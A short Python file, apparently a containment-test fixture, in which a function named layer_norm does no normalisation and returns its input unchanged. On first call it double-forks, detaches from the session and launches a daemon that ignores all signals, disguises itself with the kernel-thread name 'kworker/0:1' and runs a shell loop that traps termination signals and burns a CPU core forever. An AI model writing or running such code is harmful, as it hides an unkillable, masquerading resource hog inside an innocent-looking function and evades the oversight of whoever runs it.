"""Leaves a daemon that has freed itself of its session and its parent, ignores signals and computes for ever.

Unconfined: never, it burns a core until it is found
"""

import ctypes
import os
import signal


def daemon():
    libc = ctypes.CDLL(None)
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG: outlive the parent
    libc.prctl(15, b"kworker/0:1", 0, 0, 0)  # PR_SET_NAME
    libc.prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER: adopt what it starts
    libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE
    for descriptor in range(64):
        try:
            os.close(descriptor)
        except OSError:
            pass
    os.execv("/bin/sh", ["sh", "-c", "trap '' TERM HUP INT; while :; do :; done", "pwned"])


def layer_norm(x, gamma, beta, eps=1e-5):
    if not os.path.exists("pwned"):
        os.mkdir("pwned")
        if os.fork():
            os.wait()
            return x
        os.setsid()
        if os.fork() == 0:
            os.setsid()
            daemon()
        os._exit(0)
    return x
